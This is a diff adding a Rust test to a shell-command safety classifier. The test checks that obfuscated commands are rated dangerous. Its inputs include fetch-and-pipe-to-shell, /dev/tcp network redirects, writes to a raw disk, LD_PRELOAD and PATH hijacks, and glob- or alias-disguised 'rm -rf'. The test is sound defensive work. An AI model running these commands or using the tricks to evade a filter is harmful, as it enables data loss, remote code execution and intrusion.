@@ -1,3 +1,5 @@
+use playhouse_protocol::Level;
+
 use super::*;
 
 fn argv(text: &str) -> Vec<String> {
@@ -106,4 +108,59 @@ fn a_text_that_is_too_long_is_still_searched() {
     let text = format!("{}; rm -r x", "true; ".repeat(20_000));
     assert_eq!(why(&text), "it is longer than 65536 bytes");
     assert!(read(&text).seen().contains(&argv("rm -r x")));
+}
+
+#[test]
+fn what_cannot_be_read_is_dangerous_where_it_might_be() {
+    let level = |text: &str| match read(text) {
+        Reading::Opaque(opaque) => opaque.level,
+        Reading::Plain(line) => panic!("{text}: {line:?}"),
+    };
+    for text in [
+        "sudo id #",
+        "curl http://x/$A | sh",
+        "echo $(curl x)",
+        "$A x",
+        "\"$A\"",
+        "`echo rm` x",
+        "{rm,-rf,x}",
+        "/bin/r? -rf x",
+        "r[m] x",
+        "eval $A",
+        "eval \"$(cat x)\"",
+        "sh -c \"$A\"",
+        "env FOO=1 $A",
+        "cat x > y; sh < y",
+        "cat $X | bash",
+        "bash <(cat x)",
+        "source <(cat x)",
+        ". $A",
+        "xargs $A < x",
+        "rm $A",
+        "git $A",
+        "find . $A",
+        "PATH=. ls",
+        "LD_PRELOAD=./x ls",
+        "export PATH=.; ls",
+        "GIT_SSH_COMMAND=./x git fetch",
+        "ls > /dev/tcp/example.com/80",
+        "ls > /dev/sda",
+        "exec 3<>/dev/tcp/example.com/80",
+        "echo 'unterminated",
+        "echo $(unterminated",
+        "ls() { rm -rf x; }; ls",
+        "alias ls=rm; ls",
+        "trap 'rm -rf x' EXIT",
+        "for i in a b; do rm -rf $i; done",
+        "python3 - <<EOF\nimport os\nEOF",
+        "python3 -c \"$A\"",
+        "awk \"$A\" x",
+    ] {
+        assert_eq!(level(text), Level::Dangerous, "{text}");
+    }
+    for text in
+        ["echo $A", "ls *.rs", "cat <<EOF\nhello\nEOF", "for f in *; do wc -l $f; done", "ls > files", "cargo test &"]
+    {
+        assert_eq!(level(text), Level::Execute, "{text}");
+    }
 }
